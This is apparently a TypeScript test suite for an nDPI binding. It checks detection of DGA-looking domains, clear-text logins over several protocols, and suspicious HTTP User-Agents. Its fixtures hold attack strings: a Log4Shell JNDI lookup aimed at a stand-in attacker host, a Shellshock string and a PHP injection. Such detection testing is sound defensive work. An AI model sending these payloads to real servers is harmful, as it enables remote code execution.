// Two of nDPI's flow risks on hand-built flows: "Susp DGA Domain name" for
// names that look machine-generated (DNS query, TLS SNI, HTTP Host), and
// "Clear-Text Credentials" for logins sent in clear (FTP, POP3, IMAP, SMTP,
// Telnet, rsh, HTTP). Each case has near misses that must stay clean.
import { describe, expect, it } from 'vitest';

import { l7Name } from '../ts/bindings/engine.js';
import { tlsClientHello } from './fixtures/apps.js';
import { flowRunner } from './fixtures/dissect.js';
import { txt, u16 } from './fixtures/bytes.js';

const run = flowRunner('fg-risks-dga-creds-');
const DGA = 'Susp DGA Domain name';
const CREDS = 'Clear-Text Credentials';

/** A standard query for `name` (type A), or its answer-less response with `rcode`. */
function dnsQuery(name: string, rcode?: number): Buffer {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), txt(l)]));
  const flags = rcode === undefined ? 0x0100 : 0x8180 | rcode;
  return Buffer.concat([u16(0x1234), u16(flags), u16(1), u16(0), u16(0), u16(0), ...labels, Buffer.from([0]), u16(1), u16(1)]);
}

let port = 41000;
async function flow(l4: 'udp' | 'tcp', dport: number, payloads: Uint8Array[], dirs?: boolean[]) {
  const { flow: f } = await run(l4, port++, dport, payloads, dirs);
  return { name: l7Name(f.l7_master, f.l7_app), risks: f.risks };
}

describe('Susp DGA Domain name', () => {
  const dns = async (name: string) => (await flow('udp', 53, [dnsQuery(name)], [true])).risks.includes(DGA);
  const tls = (sni: string) => flow('tcp', 443, [tlsClientHello(sni)], [true]);
  const http = async (host: string) =>
    (await flow('tcp', 80, [txt(`GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: curl/8.0\r\n\r\n`)], [true])).risks.includes(DGA);

  it('flags random-looking names in DNS queries', async () => {
    for (const name of [
      'c75900fdf525320021636f6d6d616e64202873697276696d65732900.skullseclabs.org', // long hex label (tunnel)
      'acjstb.aliyun.com', // no vowel
      'xjwqkzpvbn.com',
      'bbcbedxhgjmdobdprmen.com', // 19+ letters without words
      'a.b.c.d.e.f.example.com', // six dots
    ])
      expect([name, await dns(name)]).toEqual([name, true]);
  });

  it('leaves real names alone, with digits, CDN labels, dashes or many labels', async () => {
    for (const name of [
      'google.com',
      'www.wikipedia.org',
      's3-eu-west-1.amazonaws.com',
      's3.eu-west-1.amazonaws.com',
      'd1a2b3c4d5e6f7.cloudfront.net',
      'e673.dsce9.akamaiedge.net',
      'fonts.gstatic.com',
      'clients4.google.com',
      'server123.example.com',
      '1.2.3.4.5.6.example.com', // a numeric first label: not counted as six dots
      '4.3.2.1.in-addr.arpa',
      'printer.local',
    ])
      expect([name, await dns(name)]).toEqual([name, false]);
  });

  it('a DGA name that resolves is also a risky domain (nDPI); one answered NXDOMAIN is not', async () => {
    const name = 'xjwqkzpvbn.com';
    const ok = await flow('udp', 53, [dnsQuery(name), dnsQuery(name, 0)]);
    expect(ok.risks).toEqual(expect.arrayContaining([DGA, 'Risky Domain Name']));
    const nx = await flow('udp', 53, [dnsQuery(name), dnsQuery(name, 3)]);
    expect(nx.risks).toEqual(expect.arrayContaining([DGA, 'Error Code']));
    expect(nx.risks).not.toContain('Risky Domain Name');
    expect((await flow('udp', 53, [dnsQuery('google.com'), dnsQuery('google.com', 0)])).risks).not.toContain('Risky Domain Name');
  });

  it('never flags a name the host patterns know as an application', async () => {
    // Random-looking, but listed (a CloudFront distribution of a known app).
    const name = 'dmqdd6hw24ucf.cloudfront.net';
    const { name: app, risks } = await flow('udp', 53, [dnsQuery(name)], [true]);
    expect(app).not.toBe('DNS');
    expect(risks).not.toContain(DGA);
  });

  it('TLS: a random www.<noise>.com SNI is flagged and named TLS.Tor, as nDPI does; a plain one is not', async () => {
    const tor = await tls('www.q4cyamnc6mtokjurvdclt.com');
    expect(tor.risks).toContain(DGA);
    expect(tor.name).toBe('TLS.Tor');
    const short = await tls('www.gfu7hbxpfp.com');
    expect([short.name, short.risks.includes(DGA)]).toEqual(['TLS.Tor', true]);
    // Looks random to a person, not to nDPI's letter statistics: plain TLS.
    const plain = await tls('www.t3i3ru.com');
    expect([plain.name, plain.risks.includes(DGA)]).toEqual(['TLS', false]);
    // Random but not www.<x>.com|net: flagged, still TLS.
    const other = await tls('xjwqkzpvbn.org');
    expect([other.name, other.risks.includes(DGA)]).toEqual(['TLS', true]);
    expect((await tls('www.example.com')).risks).not.toContain(DGA);
  });

  it('HTTP: the Host header is judged too', async () => {
    expect(await http('xjwqkzpvbn.com')).toBe(true);
    expect(await http('www.example.com')).toBe(false);
    expect(await http('10.1.2.3')).toBe(false);
  });
});

describe('Clear-Text Credentials', () => {
  const creds = async (dport: number, payloads: string[], dirs?: boolean[]) =>
    (await flow('tcp', dport, payloads.map(txt), dirs)).risks.includes(CREDS);

  it('FTP: USER or PASS after the greeting, also read after a match on another command', async () => {
    expect(await creds(21, ['220 (vsFTPd 3.0.3)\r\n', 'USER hello\r\n', '331 Please specify the password.\r\n'], [false, true, false])).toBe(true);
    expect(await creds(21, ['220 ready\r\n', 'FEAT\r\n', '211 End\r\n', 'USER anonymous\r\n'], [false, true, false, true])).toBe(true);
    expect(await creds(21, ['220 ready\r\n', 'SYST\r\n', '215 UNIX\r\n', 'PASS secret\r\n'], [false, true, false, true])).toBe(true);
    // A capture that starts with the password: nDPI still sees it on port 21.
    expect(await creds(21, ['PASS d0xa!\r\n'], [true])).toBe(true);
  });

  it('FTP near misses: the banner alone, other commands, AUTH TLS before any login; USERS is a USER to nDPI', async () => {
    expect(await creds(21, ['220 ProFTPD Server ready\r\n'], [false])).toBe(false);
    expect(await creds(21, ['220 ready\r\n', 'SYST\r\n', '215 UNIX\r\n', 'PASV\r\n', 'QUIT\r\n'], [false, true, false, true, true])).toBe(false);
    expect(await creds(21, ['220 ready\r\n', 'AUTH TLS\r\n', '234 Proceed\r\n'], [false, true, false])).toBe(false);
    expect(await creds(21, ['220 ready\r\n', 'FEAT\r\n', '211 End\r\n', 'AUTH TLS\r\n', '234 Proceed\r\n', 'USER x\r\n'], [false, true, false, true, false, true])).toBe(false);
    // nDPI's FTP reads its commands as prefixes: USERS raises it as USER does (checked with nDPI 4.11's ndpiReader)
    expect(await creds(21, ['220 ready\r\n', 'SYST\r\n', '215 UNIX\r\n', 'USERS\r\n'], [false, true, false, true])).toBe(true);
  });

  it('POP3: USER (or PASS) in clear; not SASL PLAIN, not after STLS, not the greeting alone', async () => {
    const ok = '+OK POP server ready\r\n';
    expect(await creds(110, [ok, 'user someone@example.com\r\n', '+OK\r\n', 'pass pippo\r\n'], [false, true, false, true])).toBe(true);
    expect(await creds(110, [ok, 'CAPA\r\n', '+OK\r\nUSER\r\n.\r\n', 'USER someone\r\n'], [false, true, false, true])).toBe(true);
    expect(await creds(110, [ok], [false])).toBe(false);
    // SASL's base64 exchange is not decoded (nDPI reports no credentials).
    expect(await creds(110, [ok, 'AUTH PLAIN\r\n', '+ \r\n', 'AGRpZ2l0YWwAbmFwaWVy\r\n'], [false, true, false, true])).toBe(false);
    expect(await creds(110, [ok, 'STLS\r\n', '+OK Begin TLS\r\n', 'USER looks-like-it\r\n'], [false, true, false, true])).toBe(false);
  });

  it('IMAP: LOGIN with a user name; not CAPABILITY alone, not after STARTTLS', async () => {
    const ok = '* OK IMAP4rev1 ready\r\n';
    expect(await creds(143, [ok, 'a001 LOGIN "alice" "secret"\r\n'], [false, true])).toBe(true);
    expect(await creds(143, [ok, 'a001 CAPABILITY\r\n', '* CAPABILITY IMAP4rev1\r\na001 OK\r\n', 'a002 login alice secret\r\n'], [false, true, false, true])).toBe(true);
    expect(await creds(143, [ok, 'a001 CAPABILITY\r\n', '* CAPABILITY IMAP4rev1\r\na001 OK\r\n'], [false, true, false])).toBe(false);
    expect(await creds(143, [ok, 'a001 STARTTLS\r\n', 'a001 OK Begin TLS\r\n', 'a002 LOGIN alice secret\r\n'], [false, true, false, true])).toBe(false);
  });

  it('SMTP: AUTH LOGIN answered in base64, AUTH PLAIN with inline credentials; not CRAM-MD5, not STARTTLS, not a line split off its CRLF', async () => {
    const greet = '220 mail.example.com ESMTP\r\n', ehlo = 'EHLO client.example.com\r\n', caps = '250-mail\r\n250 AUTH LOGIN PLAIN\r\n';
    const d = (n: number) => Array.from({ length: n }, (_, i) => i % 2 === 1);
    expect(await creds(587, [greet, ehlo, caps, 'AUTH LOGIN\r\n', '334 VXNlcm5hbWU6\r\n', 'YWxpY2U=\r\n'], d(6))).toBe(true);
    expect(await creds(587, [greet, ehlo, caps, 'AUTH PLAIN AGFsaWNlAHNlY3JldA==\r\n'], d(4))).toBe(true);
    // PLAIN answered on a line of its own: nDPI decodes only the inline form.
    expect(await creds(587, [greet, ehlo, caps, 'AUTH PLAIN\r\n', '334 \r\n', 'AGFsaWNlAHNlY3JldA==\r\n'], d(6))).toBe(false);
    expect(await creds(587, [greet, ehlo, caps, 'AUTH CRAM-MD5\r\n', '334 PDE4OTYuNjk3MTcwOTUyQHBvc3RvZmZpY2U+\r\n', 'YWxpY2UgNTJkOGIxMDc=\r\n'], d(6))).toBe(false);
    expect(await creds(25, [greet, ehlo, caps, 'STARTTLS\r\n', '220 Go ahead\r\n', 'AUTH LOGIN\r\n'], d(6))).toBe(false);
    // The base64 token and its CRLF in two segments (nDPI reads whole lines only).
    expect(await creds(587, [greet, ehlo, caps, 'AUTH LOGIN\r\n', '334 VXNlcm5hbWU6\r\n', 'YWxpY2U=', '\r\n', 'MAIL FROM:<a@b>\r\n'], [false, true, false, true, false, true, true, true])).toBe(false);
    expect(await creds(25, [greet, ehlo, caps, 'MAIL FROM:<a@example.com>\r\n'], d(4))).toBe(false);
  });

  it('Telnet: the login prompt answered; not option negotiation alone', async () => {
    const iac = Buffer.from([0xff, 0xfd, 0x18, 0xff, 0xfd, 0x20]);
    // nDPI's telnet.c names the flow on its third IAC packet (a subnegotiation here)
    const sb = Buffer.from([0xff, 0xfa, 0x18, 0x01, 0xff, 0xf0]);
    const session = (answer: boolean) => [iac, Buffer.from([0xff, 0xfb, 0x18]), sb, txt('login: '), txt('r'), txt('r'), txt('o'), txt('o'), ...(answer ? [txt('\r\n')] : [])];
    const t = async (payloads: Buffer[], dirs: boolean[]) => (await flow('tcp', 23, payloads, dirs)).risks.includes(CREDS);
    expect(await t(session(true), [false, true, false, false, true, false, true, false, true])).toBe(true);
    expect(await t(session(false), [false, true, false, false, true, false, true, false])).toBe(false);
    expect(await t([iac, Buffer.from([0xff, 0xfb, 0x18])], [false, true])).toBe(false);
  });

  it('rsh: the users and command after the stderr port; not the port alone', async () => {
    const r = async (payloads: string[], dirs: boolean[]) => (await run('tcp', 1023, 514, payloads.map(txt), dirs)).flow;
    const f = await r(['1022\0', 'lns\0root\0mkdir testdir\0', '\x01Password incorrect.\n'], [true, true, false]);
    expect([l7Name(f.l7_master, f.l7_app), f.risks.includes(CREDS)]).toEqual(['RSH', true]);
    // port and users in one packet are not RSH to nDPI's rsh.c (two packets)
    expect((await r(['1022\0lns\0root\0ls\0'], [true])).risks).not.toContain(CREDS);
    expect((await r(['1022\0', '\0'], [true, false])).risks).not.toContain(CREDS);
  });

  it('HTTP: Basic or Digest authorization; not other schemes', async () => {
    const req = (auth: string) => [`GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: curl/8.0\r\nAuthorization: ${auth}\r\n\r\n`];
    expect(await creds(80, req('Basic YWxpY2U6c2VjcmV0'), [true])).toBe(true);
    expect(await creds(80, req('Digest username="alice", realm="x", nonce="1", uri="/", response="ab"'), [true])).toBe(true);
    expect(await creds(80, req('Bearer eyJhbGciOiJIUzI1NiJ9.e30.x'), [true])).toBe(false);
  });
});

// nDPI's User-Agent checks (ndpi_check_user_agent in its http.c), each with a near miss.
describe('HTTP Susp User-Agent', () => {
  const SUSP = 'HTTP Susp User-Agent', EXPLOIT = 'Possible Exploit Attempt';
  const risks = async (ua: string | null) =>
    (await flow('tcp', 80, [txt(`GET / HTTP/1.1\r\nHost: example.com\r\n${ua === null ? '' : `User-Agent: ${ua}\r\n`}Accept: */*\r\n\r\n`)], [true])).risks;
  const susp = async (ua: string | null) => (await risks(ua)).includes(SUSP);

  it('missing or empty; a common agent is fine', async () => {
    expect(await susp(null)).toBe(true);
    expect(await susp('')).toBe(true);
    expect(await susp('Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0')).toBe(false);
  });

  it('over 12 characters, letters only, a fifth or more capitals; not 12, not fewer capitals, not with a non-letter', async () => {
    expect(await susp('ABCDEFGHIJKLMN')).toBe(true); // 14 letters, all capitals
    expect(await susp('AbcDefghijklmnopq')).toBe(false); // 2 of 17 capitals: under a fifth
    expect(await susp('ABCDEFGHIJKL')).toBe(false); // 12: not over 12
    expect(await susp('ABCDEFG-HIJKLMN')).toBe(false); // a non-letter
  });

  it('"<?" first or a "$" anywhere; "://" after something else than p or s; short, long, "test", braces', async () => {
    expect(await susp('<?php system() ?>')).toBe(true);
    expect(await susp('agent$x/1.0')).toBe(true);
    expect(await susp('bot mailto://x')).toBe(true);
    expect(await susp('bot (+https://example.com/bot)')).toBe(false);
    expect(await susp('abc')).toBe(true);
    expect(await susp('abcd')).toBe(false);
    expect(await susp(`a/${'x'.repeat(255)}`)).toBe(true); // 257 characters
    expect(await susp(`a/${'x'.repeat(254)}`)).toBe(false); // 256
    expect(await susp('test-client/1.0')).toBe(true);
    expect(await susp('client-test/1.0')).toBe(false);
    expect(await susp('() { :; }; /bin/bash')).toBe(true);
  });

  it('"jndi:ldap://" first is a possible exploit (Log4J), not a suspicious agent', async () => {
    const r = await risks('jndi:ldap://evil.example/a');
    expect(r).toContain(EXPLOIT);
    expect(r).not.toContain(SUSP);
    expect(await risks('x jndi:ldap://evil.example/a')).not.toContain(EXPLOIT);
  });
});
